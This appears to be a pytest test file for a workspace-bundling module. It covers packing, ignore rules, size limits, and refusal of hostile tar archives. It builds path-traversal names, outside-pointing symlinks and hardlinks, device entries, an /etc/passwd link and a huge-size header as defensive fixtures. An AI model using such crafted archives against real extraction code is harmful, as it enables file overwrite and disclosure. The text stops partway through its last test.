"""Workspace bundles (iris/bundle.py), without any service: packing, ignore rules, limits, the
receiving side's checks against hostile archives, and the home store (an in-memory double).

Archives are read back with ``tarfile`` so each rule is checked on what is actually shipped; hostile
archives are built by hand, member by member.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import os
import random
import stat
import tarfile
import time
import types
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from pydantic import ValidationError

from iris import bundle
from iris.bundle import Bundle, BundleError, BundleRef, BundleStats

MIB = 1 << 20


# ---- helpers -------------------------------------------------------------------------------------


def write(root: Path, rel: str, content: bytes | str = b"x", mode: int | None = None) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    if mode is not None:
        path.chmod(mode)
    return path


def sparse(root: Path, rel: str, size: int) -> Path:
    """A file of ``size`` bytes that takes no disk space and no time to create."""
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as f:
        f.truncate(size)
    return path


def packed(root: Path) -> Bundle:
    b = bundle.pack(root)
    assert b is not None, f"{root} packed to nothing"
    return b


def members(data: bytes) -> dict[str, tarfile.TarInfo]:
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:gz") as tar:
        return {m.name: m for m in tar.getmembers()}


def names(root: Path) -> set[str]:
    b = bundle.pack(root)
    return set() if b is None else set(members(b.data))


def contents(data: bytes) -> dict[str, bytes]:
    out: dict[str, bytes] = {}
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:gz") as tar:
        for m in tar.getmembers():
            f = tar.extractfile(m)
            assert f is not None, f"{m.name} is not a regular file"
            out[m.name] = f.read()
    return out


def tree(root: Path) -> dict[str, bytes]:
    """Every file under ``root``, by its relative posix name."""
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in root.rglob("*") if p.is_file()}


Member = tuple[tarfile.TarInfo, bytes | None]


def reg(name: str, data: bytes = b"x") -> Member:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mode = 0o644
    return info, data


def special(name: str, kind: bytes, linkname: str = "") -> Member:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = linkname
    if kind in (tarfile.CHRTYPE, tarfile.BLKTYPE):
        info.devmajor, info.devminor = 1, 3
    return info, None


def directory(name: str) -> Member:
    return special(name, tarfile.DIRTYPE)


def tar_gz(*entries: Member, compresslevel: int = 6) -> bytes:
    buf = io.BytesIO()
    with (
        gzip.GzipFile(fileobj=buf, mode="wb", mtime=0, compresslevel=compresslevel) as gz,
        tarfile.open(fileobj=gz, mode="w", format=tarfile.PAX_FORMAT) as tar,
    ):
        for info, data in entries:
            tar.addfile(info, None if data is None else io.BytesIO(data))
    return buf.getvalue()


def assert_one_line(exc: pytest.ExceptionInfo[BundleError]) -> str:
    message = str(exc.value)
    assert message and "\n" not in message and "\r" not in message, repr(message)
    return message


class FakeStore:
    """An in-memory bucket with the ObjectStore protocol's semantics (iris/objectstore.py)."""

    bucket = "home-bucket"

    def __init__(self) -> None:
        self.objects: dict[str, bytes] = {}
        self.puts: list[tuple[str, bool]] = []
        self.writes = 0

    def exists(self, key: str) -> bool:
        return key in self.objects

    def get(self, key: str) -> bytes:
        return self.objects[key]

    def put(self, key: str, data: bytes, *, if_absent: bool = False) -> bool:
        self.puts.append((key, if_absent))
        if if_absent and key in self.objects:
            return False
        self.objects[key] = data
        self.writes += 1
        return True

    def keys(self, prefix: str) -> list[str]:
        return sorted(k for k in self.objects if k.startswith(prefix))


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    root.mkdir()
    return root


@pytest.fixture
def small_bundle(ws: Path) -> Bundle:
    write(ws, "train.py", "print('hi')\n")
    write(ws, "pkg/model.py", "W = 1\n")
    write(ws, "run.sh", "#!/bin/sh\n", mode=0o755)
    return packed(ws)


# ---- what pack returns ---------------------------------------------------------------------------


def test_an_empty_workspace_packs_to_nothing(ws: Path) -> None:
    assert bundle.pack(ws) is None
    (ws / "empty" / "deeper").mkdir(parents=True)
    assert bundle.pack(ws) is None


def test_a_workspace_of_only_ignored_files_packs_to_nothing(ws: Path) -> None:
    write(ws, ".gitignore", "*\n")  # ignores itself too
    write(ws, "a.txt")
    write(ws, "sub/b.py")
    assert bundle.pack(ws) is None

    other = ws.parent / "other"
    write(other, ".venv/lib/site.py")
    write(other, "pkg/__pycache__/m.cpython-311.pyc")
    write(other, ".git/HEAD")
    assert bundle.pack(other) is None


def test_pack_refuses_a_path_that_is_not_a_directory(ws: Path) -> None:
    for path in (write(ws, "file.txt"), ws / "missing"):
        with pytest.raises(BundleError, match="not a directory") as exc:
            bundle.pack(path)
        assert_one_line(exc)


def test_the_bundle_id_is_the_sha256_of_its_bytes_and_counts_the_shipped_files(ws: Path) -> None:
    write(ws, "a.py", b"a" * 10)
    write(ws, "pkg/b.py", b"b" * 300)
    write(ws, "pkg/empty.txt", b"")
    write(ws, ".gitignore", "*.log\n")  # 6 bytes, shipped
    write(ws, "noise.log", b"n" * 5000)  # ignored: counted nowhere

    b = packed(ws)
    assert b.ref.sha256 == hashlib.sha256(b.data).hexdigest()
    assert b.ref.size == len(b.data)
    assert b.ref.files == 4
    assert b.ref.workspace_bytes == 10 + 300 + 0 + 6
    assert b.ref.short == f"sha256:{b.ref.sha256[:12]}"
    assert set(members(b.data)) == {"a.py", "pkg/b.py", "pkg/empty.txt", ".gitignore"}


def test_a_bundle_ships_only_regular_files_with_their_exact_content(ws: Path) -> None:
    files = {
        "main.py": b"import pkg\n",
        "pkg/__init__.py": b"",
        "pkg/data/weights.bin": bytes(range(256)) * 40,
        "docs/résumé.md": "é".encode(),
    }
    for rel, data in files.items():
        write(ws, rel, data)
    b = packed(ws)
    assert all(m.isreg() for m in members(b.data).values())  # no directory entries, no links
    assert contents(b.data) == files


# ---- determinism and content addressing ----------------------------------------------------------


FILES = {
    "a.py": b"print(1)\n",
    "pkg/__init__.py": b"",
    "pkg/mod.py": b"X = 2\n" * 50,
    "pkg/sub/deep.txt": b"deep",
    "z.sh": b"#!/bin/sh\necho z\n",
}
EXECUTABLE = {"z.sh"}


def make_workspace(root: Path, order: list[str], plain_mode: int, exec_mode: int) -> None:
    for rel in order:
        write(root, rel, FILES[rel], mode=exec_mode if rel in EXECUTABLE else plain_mode)


def test_the_same_files_give_byte_identical_bundles_whatever_the_metadata(tmp_path: Path) -> None:
    first, second = tmp_path / "first", tmp_path / "elsewhere" / "second"
    make_workspace(first, sorted(FILES), plain_mode=0o644, exec_mode=0o755)
    make_workspace(second, sorted(FILES, reverse=True), plain_mode=0o600, exec_mode=0o700)
    for i, path in enumerate(p for p in second.rglob("*")):
        os.utime(path, (1_500_000_000 + i * 7919, 1_600_000_000 + i * 104_729))
    (second / "pkg").chmod(0o700)

    a, b = packed(first), packed(second)
    assert a.data == b.data
    assert a.ref == b.ref


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_the_order_the_filesystem_lists_files_in_does_not_change_the_bundle(
    ws: Path, monkeypatch: pytest.MonkeyPatch, seed: int
) -> None:
    make_workspace(ws, sorted(FILES), 0o644, 0o755)
    for i in range(20):
        write(ws, f"pkg/extra_{i:02}.py", str(i))
    expected = packed(ws).data

    class ShuffledListings:
        """The os module as iris.bundle sees it, with directory listings in a random order."""

        def __getattr__(self, name: str) -> object:
            return getattr(os, name)

        @staticmethod
        def scandir(path: str | os.PathLike[str]) -> list[os.DirEntry[str]]:
            listing = list(os.scandir(path))
            random.Random(seed).shuffle(listing)
            return listing

    monkeypatch.setattr(bundle, "os", ShuffledListings())
    assert packed(ws).data == expected


def test_packing_later_gives_the_same_bytes(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    make_workspace(ws, sorted(FILES), 0o644, 0o755)
    now = packed(ws).data
    monkeypatch.setattr(time, "time", lambda: 2_000_000_000.0)  # the wall clock must not leak in
    monkeypatch.setattr(time, "time_ns", lambda: 2_000_000_000 * 10**9)
    assert packed(ws).data == now


@pytest.mark.skipif(os.geteuid() != 0, reason="changing a file's owner needs root")
def test_the_owner_of_the_files_does_not_change_the_bundle(tmp_path: Path) -> None:
    first, second = tmp_path / "first", tmp_path / "second"
    make_workspace(first, sorted(FILES), plain_mode=0o644, exec_mode=0o755)
    make_workspace(second, sorted(FILES), plain_mode=0o644, exec_mode=0o755)
    for path in second.rglob("*"):
        os.chown(path, 4321, 8765, follow_symlinks=False)
    assert packed(first).data == packed(second).data


def test_changing_one_byte_changes_the_bundle_id(tmp_path: Path) -> None:
    first, second = tmp_path / "first", tmp_path / "second"
    make_workspace(first, sorted(FILES), 0o644, 0o755)
    make_workspace(second, sorted(FILES), 0o644, 0o755)
    write(second, "pkg/mod.py", FILES["pkg/mod.py"][:-1] + b"\r")
    assert packed(first).ref.sha256 != packed(second).ref.sha256


@pytest.mark.parametrize(("old", "new"), [("a.py", "b.py"), ("pkg/sub/deep.txt", "pkg/deep.txt")])
def test_renaming_or_moving_a_file_changes_the_bundle_id(tmp_path: Path, old: str, new: str) -> None:
    first, second = tmp_path / "first", tmp_path / "second"
    make_workspace(first, sorted(FILES), 0o644, 0o755)
    make_workspace(second, sorted(FILES), 0o644, 0o755)
    (second / new).parent.mkdir(parents=True, exist_ok=True)
    (second / old).rename(second / new)
    a, b = packed(first), packed(second)
    assert a.ref.workspace_bytes == b.ref.workspace_bytes
    assert a.ref.sha256 != b.ref.sha256


def test_the_executable_bit_is_kept_in_the_archive_and_changes_the_id(tmp_path: Path) -> None:
    first, second = tmp_path / "first", tmp_path / "second"
    make_workspace(first, sorted(FILES), 0o644, 0o755)
    make_workspace(second, sorted(FILES), 0o644, 0o644)
    owner_only = tmp_path / "third"
    make_workspace(owner_only, sorted(FILES), 0o600, 0o700)

    a, b, c = packed(first), packed(second), packed(owner_only)
    assert a.ref.sha256 != b.ref.sha256
    assert stat.S_IMODE(members(a.data)["z.sh"].mode) == 0o755
    assert stat.S_IMODE(members(a.data)["a.py"].mode) == 0o644
    assert stat.S_IMODE(members(b.data)["z.sh"].mode) == 0o644
    assert c.data == a.data  # any executable bit ships as 0o755, anything else as 0o644


def test_the_executable_bit_survives_unpacking(tmp_path: Path) -> None:
    source = tmp_path / "src"
    make_workspace(source, sorted(FILES), 0o644, 0o755)
    dest = tmp_path / "dest"
    bundle.unpack(packed(source).data, dest)
    assert stat.S_IMODE((dest / "z.sh").stat().st_mode) == 0o755
    assert stat.S_IMODE((dest / "a.py").stat().st_mode) == 0o644
    assert stat.S_IMODE((dest / "pkg/mod.py").stat().st_mode) == 0o644


# ---- ignore rules --------------------------------------------------------------------------------


def test_a_root_gitignore_pattern_applies_at_every_depth(ws: Path) -> None:
    write(ws, ".gitignore", "# build noise\n\n*.log\n")
    for rel in ("a.log", "a.py", "sub/b.log", "sub/deeper/c.log", "sub/deeper/c.py"):
        write(ws, rel)
    assert names(ws) == {".gitignore", "a.py", "sub/deeper/c.py"}


def test_a_nested_gitignore_applies_only_below_its_directory(ws: Path) -> None:
    write(ws, "sub/.gitignore", "*.tmp\n/local.txt\ndocs/*.md\n")
    for rel in (
        "x.tmp",
        "local.txt",
        "docs/a.md",
        "sub/x.tmp",
        "sub/deeper/y.tmp",
        "sub/local.txt",
        "sub/deeper/local.txt",
        "sub/docs/a.md",
        "sub/deeper/docs/a.md",
        "other/x.tmp",
    ):
        write(ws, rel)
    assert names(ws) == {
        "x.tmp",
        "local.txt",
        "docs/a.md",
        "sub/.gitignore",
        "sub/deeper/local.txt",  # /local.txt is anchored to sub/, not to every level
        "sub/deeper/docs/a.md",  # docs/*.md has a slash: relative to sub/ only
        "other/x.tmp",
    }


def test_a_negated_pattern_re_includes_a_file(ws: Path) -> None:
    write(ws, ".gitignore", "*.log\n!keep.log\n")
    for rel in ("a.log", "keep.log", "sub/keep.log", "sub/b.log"):
        write(ws, rel)
    assert names(ws) == {".gitignore", "keep.log", "sub/keep.log"}


def test_a_deeper_gitignore_overrides_its_parents_rules(ws: Path) -> None:
    write(ws, ".gitignore", "*.csv\n")
    write(ws, "data/.gitignore", "!small.csv\n")
    write(ws, "other/.gitignore", "*.py\n")
    for rel in ("a.csv", "small.csv", "data/big.csv", "data/small.csv", "other/x.py", "x.py"):
        write(ws, rel)
    assert names(ws) == {
        ".gitignore",
        "x.py",
        "data/.gitignore",
        "data/small.csv",
        "other/.gitignore",
    }


def test_a_directory_pattern_ignores_directories_at_any_depth_but_not_files(ws: Path) -> None:
    write(ws, ".gitignore", "build/\n")
    for rel in ("build/out.o", "src/build/gen.py", "lib/build", "src/builder/ok.py", "main.py"):
        write(ws, rel)
    assert names(ws) == {".gitignore", "lib/build", "src/builder/ok.py", "main.py"}


def test_an_anchored_pattern_matches_only_at_its_own_level(ws: Path) -> None:
    write(ws, ".gitignore", "/top.txt\n")
    for rel in ("top.txt", "sub/top.txt", "sub/deeper/top.txt"):
        write(ws, rel)
    assert names(ws) == {".gitignore", "sub/top.txt", "sub/deeper/top.txt"}


def test_a_file_in_an_ignored_directory_cannot_be_re_included(ws: Path) -> None:
    # As git: "It is not possible to re-include a file if a parent directory of that file is excluded."
    write(ws, ".gitignore", "out/\n!out/keep.txt\n")
    write(ws, "out/keep.txt")
    write(ws, "out/drop.txt")
    assert names(ws) == {".gitignore"}


def test_a_directory_emptied_with_a_star_pattern_can_re_include_a_file(ws: Path) -> None:
    # ``logs/*`` matches what is inside logs/, not logs/ itself, so a negation can reach in.
    write(ws, ".gitignore", "logs/*\n!logs/keep.txt\n")
    write(ws, "logs/keep.txt")
    write(ws, "logs/run1.txt")
    assert names(ws) == {".gitignore", "logs/keep.txt"}


def test_a_double_star_pattern_does_not_ignore_the_directory_itself(ws: Path) -> None:
    write(ws, ".gitignore", "logs/**\n!logs/keep.txt\n")
    write(ws, "logs/keep.txt")
    write(ws, "logs/run1.txt")
    assert names(ws) == {".gitignore", "logs/keep.txt"}


def test_the_whitelist_idiom_re_includes_directories_and_their_matching_files(ws: Path) -> None:
    write(ws, ".gitignore", "*\n!*/\n!*.py\n")
    for rel in ("a.py", "a.txt", "sub/b.py", "sub/b.txt"):
        write(ws, rel)
    assert names(ws) == {"a.py", "sub/b.py"}


def test_irisignore_is_read_after_gitignore_and_can_re_include(ws: Path) -> None:
    write(ws, ".gitignore", "*.log\n!secret.txt\n")
    write(ws, ".irisignore", "!keep.log\nsecret.txt\ndatasets/\n")
    for rel in ("a.log", "keep.log", "secret.txt", "datasets/big.npy", "main.py"):
        write(ws, rel)
    # keep.log: .irisignore re-includes what .gitignore ignores; secret.txt: the later file wins.
    assert names(ws) == {".gitignore", ".irisignore", "keep.log", "main.py"}


def test_a_nested_irisignore_applies_only_below_its_directory(ws: Path) -> None:
    write(ws, "exp/.irisignore", "*.ckpt\n")
    write(ws, "exp/.gitignore", "!*.ckpt\n")  # read first in the same directory: loses
    for rel in ("a.ckpt", "exp/b.ckpt", "exp/run/c.ckpt", "exp/run/train.py"):
        write(ws, rel)
    assert names(ws) == {"a.ckpt", "exp/.irisignore", "exp/.gitignore", "exp/run/train.py"}


def test_ignore_files_with_crlf_line_endings_work(ws: Path) -> None:
    write(ws, ".gitignore", b"*.log\r\n!keep.log\r\n")
    for rel in ("a.log", "keep.log"):
        write(ws, rel)
    assert names(ws) == {".gitignore", "keep.log"}


@pytest.mark.parametrize("skipped", sorted(bundle.ALWAYS_SKIPPED))
def test_always_skipped_directories_are_never_shipped_whatever_the_ignore_files_say(
    ws: Path, skipped: str
) -> None:
    for ignore in (".gitignore", ".irisignore", "a/.gitignore"):
        write(ws, ignore, f"!{skipped}/\n!{skipped}\n!**/{skipped}/**\n!*\n")
    for rel in (f"{skipped}/x.py", f"a/{skipped}/y.py", f"a/b/c/{skipped}/deep/z.py", "a/keep.py"):
        write(ws, rel)
    shipped = names(ws)
    assert "a/keep.py" in shipped
    assert not [n for n in shipped if skipped in n.split("/")]


# ---- symlinks and special files ------------------------------------------------------------------


def test_a_symlink_to_a_file_inside_the_workspace_ships_as_a_regular_file(ws: Path) -> None:
    write(ws, "data/target.txt", b"the target")
    (ws / "relative_link.txt").symlink_to("data/target.txt")
    write(ws, "sub/keep.py")
    (ws / "sub" / "up_link.txt").symlink_to("../data/target.txt")
    (ws / "absolute_link.txt").symlink_to(ws / "data" / "target.txt")

    b = packed(ws)
    shipped = members(b.data)
    for name in ("relative_link.txt", "sub/up_link.txt", "absolute_link.txt"):
        assert shipped[name].isreg(), name
    assert contents(b.data)["relative_link.txt"] == b"the target"
    assert contents(b.data)["sub/up_link.txt"] == b"the target"
    assert contents(b.data)["absolute_link.txt"] == b"the target"
    assert b.ref.files == 5


def test_a_workspace_reached_through_a_symlink_still_ships_its_inner_links(tmp_path: Path) -> None:
    real = tmp_path / "real"
    write(real, "target.txt", b"t")
    (real / "link.txt").symlink_to("target.txt")
    alias = tmp_path / "alias"
    alias.symlink_to(real)
    assert contents(packed(alias).data) == {"link.txt": b"t", "target.txt": b"t"}


def test_a_symlink_pointing_outside_the_workspace_is_not_shipped(ws: Path) -> None:
    outside = write(ws.parent, "outside/secret.txt", b"secret")
    write(ws, "main.py")
    (ws / "absolute.txt").symlink_to(outside)
    (ws / "relative.txt").symlink_to("../outside/secret.txt")
    (ws / "etc_passwd").symlink_to("/etc/passwd")
    assert names(ws) == {"main.py"}


def test_dangling_and_looping_symlinks_are_not_shipped(ws: Path) -> None:
    write(ws, "main.py")
    (ws / "dangling.txt").symlink_to("nowhere.txt")
    (ws / "loop_a").symlink_to("loop_b")
    (ws / "loop_b").symlink_to("loop_a")
    (ws / "self").symlink_to("self")
    assert names(ws) == {"main.py"}


def test_a_symlinked_directory_is_not_shipped(ws: Path) -> None:
    write(ws, "pkg/mod.py")
    write(ws.parent, "outside/other.py")
    (ws / "pkg_alias").symlink_to("pkg", target_is_directory=True)
    (ws / "outside_alias").symlink_to(ws.parent / "outside", target_is_directory=True)
    (ws / "root_alias").symlink_to(".", target_is_directory=True)
    assert names(ws) == {"pkg/mod.py"}


@pytest.mark.timeout(10)
def test_a_fifo_is_skipped_without_blocking(ws: Path) -> None:
    write(ws, "main.py")
    os.mkfifo(ws / "pipe")
    (ws / "link_to_pipe").symlink_to("pipe")
    assert names(ws) == {"main.py"}


# ---- limits --------------------------------------------------------------------------------------


def test_a_workspace_over_the_size_limit_is_refused_naming_its_largest_entries(
    ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sparse(ws, "medium.bin", 4 * MIB)
    sparse(ws, "huge.bin", 20 * MIB)
    sparse(ws, "data/small.bin", 2 * MIB)
    write(ws, "tiny.txt", b"0123456789")
    # No archive is built: failing here would be an AssertionError, not a BundleError.
    forbidden = types.SimpleNamespace(GzipFile=lambda *a, **k: pytest.fail("an archive was built"))
    monkeypatch.setattr(bundle, "gzip", forbidden)

    with pytest.raises(BundleError) as exc:
        bundle.pack(ws)
    message = assert_one_line(exc)
    assert "26.0 MiB" in message  # the workspace's size
    assert "25.0 MiB" in message  # the limit
    positions = [message.index(name) for name in ("huge.bin", "medium.bin", "data/small.bin")]
    assert positions == sorted(positions), message  # biggest first


def test_the_size_limit_is_on_the_shipped_bytes_exactly(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bundle, "MAX_WORKSPACE_BYTES", 1000)
    write(ws, "a.bin", b"a" * 600)
    write(ws, "b.bin", b"b" * 400)
    assert packed(ws).ref.workspace_bytes == 1000
    write(ws, "c.bin", b"c")
    with pytest.raises(BundleError, match="1000 B limit"):
        bundle.pack(ws)


def test_ignored_files_do_not_count_toward_the_size_limit(ws: Path) -> None:
    write(ws, ".gitignore", "*.ckpt\ndatasets/\n")
    sparse(ws, "model.ckpt", 30 * MIB)
    sparse(ws, "datasets/train.npy", 30 * MIB)
    sparse(ws, ".venv/lib/libtorch.so", 30 * MIB)
    sparse(ws, ".data/temporal.db", 30 * MIB)
    write(ws, "train.py", b"x" * 100)
    b = packed(ws)
    assert set(members(b.data)) == {".gitignore", "train.py"}
    assert b.ref.workspace_bytes == 100 + len("*.ckpt\ndatasets/\n")


def test_a_workspace_with_more_than_max_files_is_refused(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bundle, "MAX_FILES", 5)
    for i in range(5):
        write(ws, f"f{i}.py")
    assert packed(ws).ref.files == 5
    write(ws, "sub/f5.py")
    with pytest.raises(BundleError, match="more than 5 files") as exc:
        bundle.pack(ws)
    assert_one_line(exc)


def test_ignored_files_do_not_count_toward_the_file_limit(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bundle, "MAX_FILES", 3)
    write(ws, ".irisignore", "cache/\n")
    for i in range(20):
        write(ws, f"cache/c{i}.bin")
        write(ws, f"__pycache__/m{i}.pyc")
    write(ws, "a.py")
    write(ws, "b.py")
    assert packed(ws).ref.files == 3


def test_the_size_error_stays_one_line_whatever_the_file_names(ws: Path) -> None:
    sparse(ws, "huge\nname.bin", 26 * MIB)
    with pytest.raises(BundleError) as exc:
        bundle.pack(ws)
    assert_one_line(exc)


# ---- contains ------------------------------------------------------------------------------------


def test_contains_finds_a_shipped_file_by_its_relative_path(ws: Path) -> None:
    write(ws, "a/b.py")
    write(ws, "c.txt")
    write(ws, ".gitignore", "*.log\n")
    write(ws, "a/d.log")
    b = packed(ws)
    assert bundle.contains(b, "a/b.py")
    assert bundle.contains(b, "./a/b.py")
    assert bundle.contains(b, "c.txt")
    assert not bundle.contains(b, "a")  # a directory is not a file
    assert not bundle.contains(b, "b.py")
    assert not bundle.contains(b, "a/d.log")  # ignored
    assert not bundle.contains(b, "a/missing.py")


# ---- the receiving side: a good bundle -----------------------------------------------------------


def test_a_good_bundle_unpacks_to_exactly_the_shipped_files(tmp_path: Path) -> None:
    source = tmp_path / "src"
    files = {
        "train.py": b"print('train')\n",
        "pkg/__init__.py": b"",
        "pkg/nested/deep/weights.bin": os.urandom(4096),
        "naïve.txt": "naïve".encode(),
    }
    for rel, data in files.items():
        write(source, rel, data)
    write(source, ".irisignore", "*.tmp\n")
    write(source, "scratch.tmp", b"not shipped")
    files[".irisignore"] = b"*.tmp\n"

    b = packed(source)
    dest = tmp_path / "new" / "dest"  # created, parents included
    stats = bundle.unpack(b.data, dest)
    assert tree(dest) == files
    assert stats == BundleStats(files=b.ref.files, workspace_bytes=b.ref.workspace_bytes)


def test_inspect_returns_the_counts_the_ref_claims(small_bundle: Bundle) -> None:
    stats = bundle.inspect(small_bundle.data)
    assert stats == BundleStats(files=3, workspace_bytes=small_bundle.ref.workspace_bytes)
    assert stats.workspace_bytes == len("print('hi')\n") + len("W = 1\n") + len("#!/bin/sh\n")


def test_an_archive_with_directory_entries_is_accepted_and_only_files_counted(tmp_path: Path) -> None:
    data = tar_gz(directory("pkg"), reg("pkg/a.py", b"abc"), directory("pkg/empty"))
    assert bundle.inspect(data) == BundleStats(files=1, workspace_bytes=3)
    bundle.unpack(data, tmp_path / "dest")
    assert tree(tmp_path / "dest") == {"pkg/a.py": b"abc"}


# ---- the receiving side: hostile archives --------------------------------------------------------

ESCAPE = "escaped.txt"  # written next to dest if an archive could climb out of it


HOSTILE: dict[str, Callable[[Path], list[Member]]] = {
    "absolute-name": lambda tmp: [reg(str(tmp / ESCAPE), b"pwned")],
    "dotdot-name": lambda tmp: [reg(f"../{ESCAPE}", b"pwned")],
    "dotdot-inside-name": lambda tmp: [reg("a.py"), reg(f"sub/../../{ESCAPE}", b"pwned")],
    "backslash-name": lambda tmp: [reg(f"..\\{ESCAPE}", b"pwned")],
    "symlink-then-write-through-it": lambda tmp: [
        special("link", tarfile.SYMTYPE, f"../{ESCAPE}"),
        reg("link", b"pwned"),
    ],
    "symlink-to-a-directory-outside": lambda tmp: [
        special("out", tarfile.SYMTYPE, str(tmp)),
        reg(f"out/{ESCAPE}", b"pwned"),
    ],
    "symlink-inside": lambda tmp: [reg("a.py"), special("b.py", tarfile.SYMTYPE, "a.py")],
    "hardlink-outside": lambda tmp: [special("hard", tarfile.LNKTYPE, f"../{ESCAPE}")],
    "hardlink-inside": lambda tmp: [reg("a.py"), special("b.py", tarfile.LNKTYPE, "a.py")],
    "char-device": lambda tmp: [reg("a.py"), special("null", tarfile.CHRTYPE)],
    "block-device": lambda tmp: [reg("a.py"), special("disk", tarfile.BLKTYPE)],
    "fifo": lambda tmp: [reg("a.py"), special("pipe", tarfile.FIFOTYPE)],
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_archive_is_refused_and_nothing_is_written(tmp_path: Path, case: str) -> None:
    data = tar_gz(*HOSTILE[case](tmp_path))
    with pytest.raises(BundleError) as exc:
        bundle.inspect(data)
    assert_one_line(exc)

    dest = tmp_path / "dest"
    with pytest.raises(BundleError):
        bundle.unpack(data, dest)
    assert not (tmp_path / ESCAPE).exists()
    assert not (tmp_path / ESCAPE).is_symlink()
    assert not dest.exists() or not any(dest.iterdir())  # checked before anything was written


def test_hostile_member_names_are_really_in_the_archive(tmp_path: Path) -> None:
    # Guards the test above: tarfile must not have sanitised the names on the way in.
    for case in ("absolute-name", "dotdot-name"):
        name = HOSTILE[case](tmp_path)[0][0].name
        assert set(members(tar_gz(*HOSTILE[case](tmp_path)))) == {name}
    assert members(tar_gz(*HOSTILE["absolute-name"](tmp_path)))[str(tmp_path / ESCAPE)]


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"", id="empty-bytes"),
        pytest.param(b"PK\x03\x04 not a tarball", id="garbage"),
        pytest.param(b"\x1f\x8b\x08\x00garbage after a gzip magic", id="bad-gzip"),
        pytest.param(gzip.compress(b"hello world " * 100), id="gzip-of-not-a-tar"),
        pytest.param(zlib.compress(b"x" * 1000), id="zlib-not-gzip"),
    ],
)
def test_bytes_that_are_not_a_gzipped_tar_are_refused(tmp_path: Path, data: bytes) -> None:
    with pytest.raises(BundleError) as exc:
        bundle.inspect(data)
    assert_one_line(exc)
    with pytest.raises(BundleError):
        bundle.unpack(data, tmp_path / "dest")
    assert not (tmp_path / "dest").exists()


def test_an_uncompressed_tar_is_refused(tmp_path: Path, small_bundle: Bundle) -> None:
    plain = gzip.decompress(small_bundle.data)
    with tarfile.open(fileobj=io.BytesIO(plain)) as tar:
        assert tar.getnames()  # a valid tar, just not gzipped
    with pytest.raises(BundleError, match="gzip"):
        bundle.inspect(plain)


@pytest.fixture
def incompressible(tmp_path: Path) -> bytes:
    source = tmp_path / "incompressible"
    write(source, "a.bin", os.urandom(64 * 1024))
    write(source, "b.bin", os.urandom(16 * 1024))
    return packed(source).data


@pytest.mark.parametrize("fraction", [0.0001, 0.01, 0.25, 0.5, 0.75, 0.9])
def test_a_truncated_archive_is_refused(tmp_path: Path, incompressible: bytes, fraction: float) -> None:
    cut = incompressible[: max(1, int(len(incompressible) * fraction))]
    with pytest.raises(BundleError) as exc:
        bundle.inspect(cut)
    assert_one_line(exc)
    with pytest.raises(BundleError):
        bundle.unpack(cut, tmp_path / "dest")
    assert not (tmp_path / "dest").exists()


@pytest.mark.parametrize("damage", ["cut-trailer", "crc-flipped", "trailing-garbage"])
def test_an_archive_damaged_at_its_end_is_refused(incompressible: bytes, damage: str) -> None:
    data = bytearray(incompressible)
    if damage == "cut-trailer":
        del data[-4:]
    elif damage == "crc-flipped":
        data[-8] ^= 0xFF
    else:
        data += b"junk"
    with pytest.raises(BundleError):
        bundle.inspect(bytes(data))


def test_declared_sizes_summing_above_the_limit_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(bundle, "MAX_WORKSPACE_BYTES", 100)
    assert bundle.inspect(tar_gz(reg("a", b"a" * 60), reg("b", b"b" * 40))).workspace_bytes == 100
    data = tar_gz(reg("a", b"a" * 60), reg("b", b"b" * 41))  # each one fits, not together
    with pytest.raises(BundleError, match="more than 100 B") as exc:
        bundle.inspect(data)
    assert_one_line(exc)
    with pytest.raises(BundleError):
        bundle.unpack(data, tmp_path / "dest")
    assert not (tmp_path / "dest").exists()


@pytest.mark.timeout(10)
def test_a_header_claiming_a_huge_size_is_refused_before_reading_it(tmp_path: Path) -> None:
    info = tarfile.TarInfo("bomb.bin")
    info.size = 1 << 40  # 1 TiB, and no data at all behind it
    data = gzip.compress(info.tobuf(tarfile.GNU_FORMAT), mtime=0)
    assert len(data) < 1024
    with pytest.raises(BundleError, match=r"25\.0 MiB") as exc:
        bundle.inspect(data)
    assert_one_line(exc)
    with pytest.raises(BundleError):
        bundle.unpack(data, tmp_path / "dest")
    assert not (tmp_path / "dest").exists()


def test_an_archive_with_more_than_max_files_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(bundle, "MAX_FILES", 3)
    assert bundle.inspect(tar_gz(reg("a"), reg("b"), reg("c"))).files == 3
    data = tar_gz(reg("a"), reg("b"), reg("c"), reg("d"))
    with pytest.raises(BundleError, match="more than 3 files") as exc:
        bundle.inspect(data)
    assert_one_line(exc)
    with pytest.raises(BundleError):
        bundle.unpack(data, tmp_path / "dest")
    assert not (tmp_path / "dest").exists()


@pytest.mark.parametrize(
    "entries",
    [pytest.param((), id="no-members"), pytest.param((directory("d"), directory("d/e")), id="only-dirs")],
)
def test_an_archive_without_files_is_refused(tmp_path: Path, entries: tuple[Member, ...]) -> None:
    data = tar_gz(*entries)
    with pytest.raises(BundleError) as exc:
        bundle.inspect(data)
    assert_one_line(exc)
    with pytest.raises(BundleError):
        bundle.unpack(data, tmp_path / "dest")
    assert not (tmp_path / "dest").exists()


def test_an_archive_over_the_archive_limit_is_refused_before_it_is_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, small_bundle: Bundle
) -> None:
    monkeypatch.setattr(bundle, "MAX_ARCHIVE_BYTES", len(small_bundle.data) - 1)
